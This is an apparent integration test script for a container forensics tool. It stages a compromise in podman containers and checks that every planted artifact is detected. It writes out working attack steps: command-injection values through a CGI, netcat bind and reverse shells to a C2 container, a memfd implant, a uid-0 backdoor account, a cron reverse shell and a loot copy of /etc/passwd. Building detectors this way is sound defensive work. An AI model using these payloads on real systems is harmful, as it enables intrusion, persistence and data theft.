#!/usr/bin/env bash
# A compromise of our own, end to end: a busybox httpd serving a CGI with a command injection
# (tests/fixtures/scenario/ping.cgi) in a real podman container; the attack is driven through HTTP
# from the host: a dropped renamed busybox run and deleted while it runs, a copy run from /dev/shm,
# a bind shell, a reverse shell to a C2 listener in a second container on the podman network, a
# memfd implant, a new uid-0 account, a cron file, a deleted image file, a secret in a new
# process's environment, a deleted-but-open loot file. Captured with afterimage-capture; every
# planted artifact must be a finding (rule id and evidence); a clean container of the same image
# must yield no behavioural finding.
. "$(dirname "$0")/../lib.sh"
t_require_capture
t_require_analyze
A=$ANALYZE
SC=$FIXTURES/scenario
IMG=localhost/ai-d-scenario:1
P_HTTP=18601 P_BIND=18602 P_CLEAN=18603
WEB=ai-D-web-$$ C2=ai-D-c2-$$ CLEAN=ai-D-clean-$$

command -v buildah >/dev/null || t_bail "buildah" "not installed"
[[ -x /bin/busybox ]] || t_bail "busybox-static" "not installed"

# ---- the image: busybox-static, its applets as symlinks, the CGI, /etc/motd to delete later
R=$T_TMP/rootfs
mkdir -p "$R"/{bin,etc,tmp,www/cgi-bin,var/spool,root,dev/shm}
cp /bin/busybox "$R/bin/busybox"
for a in $(/bin/busybox --list); do [[ $a == busybox ]] || ln -sf busybox "$R/bin/$a"; done
cp "$SC/ping.cgi" "$R/www/cgi-bin/ping"
echo 'it works' >"$R/www/index.html"
printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/www:/bin/false\n' >"$R/etc/passwd"
printf 'root:x:0:\nwww:x:33:\n' >"$R/etc/group"
echo 'welcome' >"$R/etc/motd"
chmod 1777 "$R/tmp"
if ! podman image exists "$IMG"; then
	ctr=$(buildah from scratch) || t_bail "buildah from scratch"
	buildah copy -q "$ctr" "$R" / >/dev/null || t_bail "buildah copy"
	buildah config --cmd '/bin/httpd -f -p 8080 -h /www' "$ctr" || t_bail "buildah config"
	buildah commit -q "$ctr" "$IMG" >/dev/null || t_bail "buildah commit"
	buildah rm "$ctr" >/dev/null
fi
t_ok "podman save the scenario image" podman save -q --format oci-archive -o "$T_TMP/img.tar" "$IMG"
REF=oci-archive:$T_TMP/img.tar

cc -static -O2 -o "$T_TMP/implant" "$SC/implant.c" || t_bail "compile the memfd implant"

for c in "$WEB" "$C2" "$CLEAN"; do t_cleanup "podman rm -f -t 0 $c"; done
podman run -d --name "$C2" "$IMG" nc -ll -p 9001 -e /bin/cat >/dev/null || t_bail "start the C2"
podman run -d --name "$WEB" --tmpfs /scratch:rw,exec -p "127.0.0.1:$P_HTTP:8080" -p "127.0.0.1:$P_BIND:4444" "$IMG" >/dev/null ||
	t_bail "start the web container"
podman run -d --name "$CLEAN" -p "127.0.0.1:$P_CLEAN:8080" "$IMG" >/dev/null || t_bail "start the clean container"
C2IP=$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$C2")
t_match "the C2 has an address on the podman network" '^[0-9.]+$' "$C2IP"

# inject CMD: run CMD through the CGI (url-encoded by curl), detached from the request
inject() {
	curl -sS -m 10 -G "http://127.0.0.1:$P_HTTP/cgi-bin/ping" --data-urlencode "host=x; $1" >/dev/null
}
for _ in $(seq 50); do curl -sf -m 2 "http://127.0.0.1:$P_HTTP/" >/dev/null && break; sleep 0.2; done
t_match "the CGI answers" "checking 127.0.0.1" "$(curl -sS -m 10 "http://127.0.0.1:$P_HTTP/cgi-bin/ping?host=127.0.0.1")"
curl -sS -m 10 "http://127.0.0.1:$P_CLEAN/cgi-bin/ping?host=127.0.0.1" >/dev/null

podman cp "$T_TMP/implant" "$WEB:/tmp/implant" || t_bail "podman cp the implant"
D='</dev/null >/dev/null 2>&1 &'
inject "cp /bin/busybox /tmp/kworker; ln -s /tmp/kworker /tmp/sleep; setsid /tmp/sleep 100001 $D"
# (podman mounts /dev/shm noexec: the tmpfs volume is where a dropper can run from)
inject "cp /bin/busybox /scratch/.x; ln -s /scratch/.x /scratch/sleep; setsid /scratch/sleep 100002 $D"
inject "setsid nc -ll -p 4444 -e /bin/sh $D"
inject "setsid nc $C2IP 9001 -e /bin/sh $D"
inject "setsid /tmp/implant $D"
inject "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd"
inject "mkdir -p /var/spool/cron/crontabs; echo '* * * * * nc $C2IP 9001 -e /bin/sh' > /var/spool/cron/crontabs/root"
inject "rm /etc/motd"
inject "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY setsid sleep 100003 $D"
inject "cp /etc/passwd /tmp/loot.txt; setsid sh -c 'exec 3</tmp/loot.txt; rm /tmp/loot.txt; exec sleep 100004' $D"
sleep 1
inject "rm /tmp/kworker /tmp/sleep /tmp/implant"
# a client on the bind shell, held open through the capture
exec 7<>"/dev/tcp/127.0.0.1/$P_BIND" || t_bail "connect to the bind shell"
echo 'echo bound' >&7
t_cleanup "exec 7>&-"
sleep 1

K=$T_TMP/key
t_ok "keygen" "$CAPTURE" keygen -o "$K"
mkdir -p "$T_TMP/out"
WPID=$(podman inspect -f '{{.State.Pid}}' "$WEB")
CPID=$(podman inspect -f '{{.State.Pid}}' "$CLEAN")
t_ok "capture the compromised container" "$CAPTURE" snapshot --pid "$WPID" --key "$K.key" -o "$T_TMP/out" --name web
t_ok "capture the clean container" "$CAPTURE" snapshot --pid "$CPID" --key "$K.key" -o "$T_TMP/out" --name clean
B=$T_TMP/out/web.tar
BC=$T_TMP/out/clean.tar

fj=$("$A" findings "$B" --image "$REF" --json)
rules=$(jq -r '.findings[] | "\(.rule) \(.kind) \(.path) \(.remote) \(.message)"' <<<"$fj")
t_diag "$rules"
has() { t_match "$1" "$2" "$rules"; }
has "dropped renamed busybox: deleted exe" "AI-EXE-002 exe-deleted /tmp/kworker"
has "dropped renamed busybox: identical to the image's busybox" "AI-EXE-009 dropped-binary-identity /tmp/kworker .*identical to /bin/busybox, layer 1"
has "dropped renamed busybox: argv[0] differs from the exe" "AI-PROC-002 argv0-mismatch /tmp/kworker .*calls itself \"sleep\""
has "a binary run from a tmpfs volume" "AI-EXE-008 exe-from-volatile /scratch/.x"
has "reverse shell: the shell's stdio is a socket to the C2" "AI-NET-002 shell-socket-stdio .* $C2IP:9001"
has "bind shell: a shell's stdio is a socket on :4444" "AI-NET-002 shell-socket-stdio .*:4444"
has "the C2 connection is a finding" "AI-NET-00[14] connection-[a-z-]+ null $C2IP:9001"
has "the bind shell's listener, not started by the image" "AI-NET-005 listener-unexpected .*4444"
has "the web server spawned a shell" "AI-PROC-001 service-spawned-shell .*descends from pid [0-9]+ \(httpd\)"
has "memfd implant" "AI-EXE-001 exe-memfd /memfd:kthread"
has "new uid-0 account" "AI-PER-001 uid0-account-added /etc/passwd .*\"backdoor\" has uid 0"
has "passwd changed" "AI-PER-002 account-db-changed /etc/passwd"
has "cron file" "AI-PER-003 cron-at-changed /var/spool/cron/crontabs/root"
has "deleted image file" "AI-PER-010 image-file-deleted /etc/motd .*layer 1"
has "secret in a new process's environment" "AI-SEC-001 secret-in-environment null null .*AWS_SECRET_ACCESS_KEY .*value masked"
has "deleted-but-open loot file" "AI-FILE-001 deleted-open-file /tmp/loot.txt"
t_empty "the secret's value is in no view" "$(grep -o 'wJalrXUtnFEMI' <<<"$fj$("$A" findings "$B")")"
t_match "--show-secrets shows it" "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY" "$("$A" findings "$B" --show-secrets)"
t_eq "the first finding is high" high "$(jq -r '.findings[0].severity' <<<"$fj")"
t_empty "most severe first: no high after a medium" \
	"$(jq -r '[.findings[].severity] | map(if .=="high" then 0 elif .=="medium" then 1 else 2 end) | . as $s | [range(1; length) | select($s[.] < $s[.-1])] | .[]' <<<"$fj")"
t_eq "the deleted exe has its full sha256 and member" "64 true" \
	"$(jq -r '[.findings[] | select(.kind=="exe-deleted" and (.path|startswith("/tmp/kworker")))][0] | "\(.sha256|length) \(.member != null)"' <<<"$fj")"
t_eq "its sha256 is the image busybox's" "$(sha256sum /bin/busybox | cut -c1-64)" \
	"$(jq -r '[.findings[] | select(.kind=="exe-deleted" and (.path|startswith("/tmp/kworker")))][0].sha256' <<<"$fj")"
t_match "text shows full 64-hex hashes" "sha256 [0-9a-f]{64}" "$("$A" findings "$B" --image "$REF")"
t_eq "every finding names the container" "0" "$(jq '[.findings[] | select(.container == null)] | length' <<<"$fj")"
ipid=$(jq -r '[.findings[] | select(.kind=="exe-memfd")][0].pid' <<<"$fj")
t_eq "--pid keeps that process's findings only" "$ipid" \
	"$("$A" findings "$B" --json --pid "$ipid" | jq -r '[.findings[].pid] | unique | join(",")')"
t_eq "--min-severity high drops the rest" "high" \
	"$("$A" findings "$B" --json --min-severity high | jq -r '[.findings[].severity] | unique | join(",")')"
t_match "--path GLOB selects by path" "cron-at-changed" \
	"$("$A" findings "$B" --json --path '/var/spool/*' | jq -r '[.findings[].kind] | unique | join(",")')"
cid=$(podman inspect -f '{{.Id}}' "$WEB")
t_eq "--container (id prefix) matches the bundle's container" "$(jq '.findings | length' <<<"$fj")" \
	"$("$A" findings "$B" --image "$REF" --json --container "${cid:0:12}" | jq '.findings | length')"
t_eq "--container of another container matches nothing" 0 \
	"$("$A" findings "$B" --json --container 0123456789ab | jq '.findings | length')"

# ---- the clean container: no behavioural finding
cj=$("$A" findings "$BC" --image "$REF" --json)
t_empty "clean container: no behavioural finding" \
	"$(jq -r '.findings[] | select(.class=="behaviour") | "\(.rule) \(.kind) \(.path) \(.message)"' <<<"$cj")"
t_match "clean container: its configuration is still reported" "root-writable-rootfs" \
	"$(jq -r '.findings[].kind' <<<"$cj")"

# ---- the checkpoint archive: filters work there too
CK=$ROOT/tests/data/podman-checkpoint/checkpoint.tar
t_eq "checkpoint: --path selects the whiteout" "/hello.sh" \
	"$("$A" findings "$CK" --image "oci-archive:$ROOT/tests/data/podman-checkpoint/image-oci-archive.tar" --json --path '/hello*' | jq -r '[.findings[].path] | unique | join(",")')"
t_eq "checkpoint: --container by its name" "$("$A" findings "$CK" --json | jq '.findings | length')" \
	"$("$A" findings "$CK" --json --container "$(jq -r '.findings[0].container' <<<"$("$A" findings "$CK" --json)")" | jq '.findings | length')"

# ---- ps --pid: one process in full
rpid=$(jq -r '[.findings[] | select(.kind=="shell-socket-stdio" and (.remote|tostring|test("9001")))][0].pid' <<<"$fj")
pd=$("$A" ps "$B" --pid "$rpid" --json)
t_eq "ps --pid --json: the reverse shell's fd 0 resolves to the C2 endpoint" "$C2IP:9001" \
	"$(jq -r '.fds[] | select(.fd==0) | .socket' <<<"$pd" | grep -o "$C2IP:9001")"
t_match "ps --pid --json: capabilities decoded" "CAP_CHOWN" "$(jq -r .capabilities <<<"$pd")"
t_match "ps --pid --json: namespaces" "mnt:[0-9]+" "$(jq -r .namespaces <<<"$pd")"
t_eq "ps --pid --json: seccomp filter mode" 2 "$(jq -r .seccomp <<<"$pd")"
spid=$(jq -r '[.findings[] | select(.kind=="secret-in-environment")][0].pid' <<<"$fj")
st=$("$A" ps "$B" --pid "$spid" --image "$REF")
t_match "ps --pid: the secret is masked" "AWS_SECRET_ACCESS_KEY=<masked, [0-9]+ bytes>" "$st"
# (the value also travels, url-encoded, in the CGI's QUERY_STRING: evidence of the injection)
t_empty "ps --pid, ps --json: the value is not shown" "$(grep -o 'AWS_SECRET_ACCESS_KEY=wJalr' <<<"$st$("$A" ps "$B" --json)")"
t_match "ps --pid --show-secrets shows it" "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY" "$("$A" ps "$B" --pid "$spid" --show-secrets)"
t_match "ps --pid: exe with full hash and origin" "exe .*\[(image|added|deleted|memfd)[^]]*\] sha256 [0-9a-f]{64}" "$st"
t_match "ps --pid: children listed" "(^|"$'\n'")children" "$st"
"$A" ps "$B" --pid 999999999 >/dev/null 2>&1
t_eq "ps --pid of no process: exit 3" 3 "$?"

# ---- iocs
ic=$("$A" iocs "$B" --image "$REF")
t_match "iocs csv header" "^type,value,context,first_seen,rule,kind,pid,member" "$ic"
ij=$("$A" iocs "$B" --image "$REF" --format json)
t_match "iocs: the C2 endpoint" "remote-endpoint $C2IP:9001 AI-NET" "$(jq -r '.iocs[] | "\(.type) \(.value) \(.rule)"' <<<"$ij")"
t_match "iocs: the busybox hash" "sha256 $(sha256sum /bin/busybox | cut -c1-64) AI-EXE" "$(jq -r '.iocs[] | "\(.type) \(.value) \(.rule)"' <<<"$ij")"
t_match "iocs: the bind shell's listener" "listening-endpoint \[::\]:4444" "$(jq -r '.iocs[] | "\(.type) \(.value)"' <<<"$ij")"
t_match "iocs: the cron file path" "path /var/spool/cron/crontabs/root AI-PER-003" "$(jq -r '.iocs[] | "\(.type) \(.value) \(.rule)"' <<<"$ij")"
t_eq "iocs: every row has a first-seen time" 0 "$(jq '[.iocs[] | select(.first_seen == null)] | length' <<<"$ij")"
t_eq "iocs: one row per type and value" "$(jq '.iocs | length' <<<"$ij")" "$(jq '[.iocs[] | "\(.type) \(.value)"] | unique | length' <<<"$ij")"
t_empty "iocs: the clean container has no behavioural indicator" "$("$A" iocs "$BC" --image "$REF" | tail -n +2)"

# ---- the checkpoint archive: ps --pid and iocs
CKIMG=oci-archive:$ROOT/tests/data/podman-checkpoint/image-oci-archive.tar
t_match "checkpoint: ps --pid 1" "^pid +1 " "$("$A" ps "$CK" --pid 1)"
t_eq "checkpoint: ps --pid 1 --json" 1 "$("$A" ps "$CK" --pid 1 --json | jq .pid)"
t_match "checkpoint: iocs lists the deleted image file" 'path,"/hello.sh"' "$("$A" iocs "$CK" --image "$CKIMG")"

# ---- filters on the row views and the timeline
npid=$(jq -r '[.findings[] | select(.kind=="listener-unexpected")][0].pid' <<<"$fj")
t_eq "fds --pid: that process's fds only" "$npid" "$("$A" fds "$B" --json --pid "$npid" | jq -r '[.fds[].pid] | unique | join(",")')"
t_match "net --pid: the bind shell's listener" "4444" "$("$A" net "$B" --pid "$npid")"
t_eq "files --path: the cron spool only" "/var/spool/cron/crontabs/root" \
	"$("$A" files "$B" --json --path '/var/spool/cron/crontabs/*' | jq -r '[.. | objects | select(has("path")) | .path] | unique | join(",")')"
t_eq "ps --since +1d (after the capture): no process" 0 "$("$A" ps "$B" --json --since +1d | jq '.processes | length')"
t_eq "ps --until +1d: every process" "$("$A" ps "$B" --json | jq '.processes | length')" \
	"$("$A" ps "$B" --json --until +1d | jq '.processes | length')"
t_empty "timeline --pid: no other process's start" \
	"$("$A" timeline "$B" --format jsonl --pid "$npid" | jq -r --argjson p "$npid" 'select(.pid != null and .pid != $p) | .pid')"
"$A" ps "$B" --since yesterday >/dev/null 2>&1
t_eq "a bad --since: exit 2" 2 "$?"
t_eq "checkpoint: files --path" "/etc/app,/etc/app/new.conf" \
	"$("$A" files "$CK" --json --path '/etc/app*' | jq -r '[.. | objects | select(has("path")) | .path] | unique | join(",")')"
t_eq "checkpoint: ps --since keeps processes of unknown start" 10 "$("$A" ps "$CK" --json --since 2000-01-01T00:00:00Z | jq '.processes | length')"

# ---- the report: summary first, top findings with full hashes and members, in headless Chromium
t_ok "report" "$A" report "$B" --image "$REF" -o "$T_TMP/report.html" --quiet
H=$(tr -d '\n' <"$T_TMP/report.html")
t_match "report: the summary comes before the findings table and the process tree" \
	'id="summary".*id="top-findings".*id="findings-table".*id="process-tree"' "$H"
t_match "report: a top finding with its full sha256" 'id="top-findings".*<td class="mono">[0-9a-f]{64}</td>' "$H"
t_match "report: IPv6 endpoints in brackets" '\[::\]:4444' "$H"
t_empty "report: the secret's value is not in it" "$(grep -o 'AWS_SECRET_ACCESS_KEY=wJalr' "$T_TMP/report.html")"
if command -v chromium >/dev/null; then
	CHR=(chromium --headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update
		--disable-sync --no-first-run --user-data-dir="$T_TMP/chromium")
	timeout 120 "${CHR[@]}" --dump-dom "file://$T_TMP/report.html" >"$T_TMP/dom.html" 2>/dev/null
	t_match "chromium DOM: the summary is the first section" '<h1>[^<]*</h1>[^<]*<section id="summary">' \
		"$(tr -d '\n' <"$T_TMP/dom.html")"
	t_match "chromium DOM: the reverse shell is a top finding" 'id="top-findings".*data-rule="AI-NET-002"' \
		"$(tr -d '\n' <"$T_TMP/dom.html")"
	timeout 120 "${CHR[@]}" --window-size=1280,900 --screenshot="$T_TMP/report.png" "file://$T_TMP/report.html" >/dev/null 2>&1
	t_eq "chromium screenshot is a PNG" "89504e47" "$(head -c 4 "$T_TMP/report.png" | od -An -tx1 | tr -d ' \n')"
else
	t_skip "chromium" "not installed (scripts/install-deps)"
fi

# ---- the rule table: ids unique, each one documented
ids=$(grep -o '{"AI-[A-Z]*-[0-9]*"' "$ROOT/analyze/findings.c" | tr -d '{"')
t_empty "rule ids are unique" "$(sort <<<"$ids" | uniq -d)"
t_empty "every rule id is in docs/findings.md" "$(for i in $ids; do grep -q "| $i |" "$ROOT/docs/findings.md" || echo "$i"; done)"

# ---- timeline: the capture's start before its end, in mactime too; process events with cmdlines
"$A" timeline "$B" --image "$REF" --format bodyfile >"$T_TMP/body"
mt=$(mactime -b "$T_TMP/body" -z UTC 2000-01-01 2>/dev/null)
t_match "mactime: the capture started, then stopped" 'capture web started.*capture web stopped' "$(tr -d '\n' <<<"$mt")"
t_match "timeline: a process event carries its command line" 'nc -ll -p 4444 -e /bin/sh' \
	"$("$A" timeline "$B" --format jsonl | jq -r 'select(.source=="process") | .message')"

# ---- extract --member: the loot file under its original name, with its manifest
lm=$(jq -r '[.findings[] | select(.kind=="deleted-open-file" and (.path|startswith("/tmp/loot.txt")))][0].member' <<<"$fj")
t_ok "extract --member the loot file" "$A" extract "$B" --member "$lm" -o "$T_TMP/loot" --quiet
t_eq "it is written as loot.txt" "$(jq -r .sha256 "$T_TMP/loot/loot.txt.manifest.json")" \
	"$(sha256sum "$T_TMP/loot/loot.txt" | cut -c1-64)"
t_match "its content is the passwd copy with the backdoor" "backdoor:x:0:0" "$(cat "$T_TMP/loot/loot.txt")"
t_match "the manifest names its origin" "open file of pid [0-9]+ fd 3 \(deleted\)" "$(jq -r .origin "$T_TMP/loot/loot.txt.manifest.json")"
t_fail "extract --member never replaces a file" "$A" extract "$B" --member "$lm" -o "$T_TMP/loot" --quiet
t_fail "extract --member of no member fails" "$A" extract "$B" --member nope/nothing -o "$T_TMP/loot2" --quiet
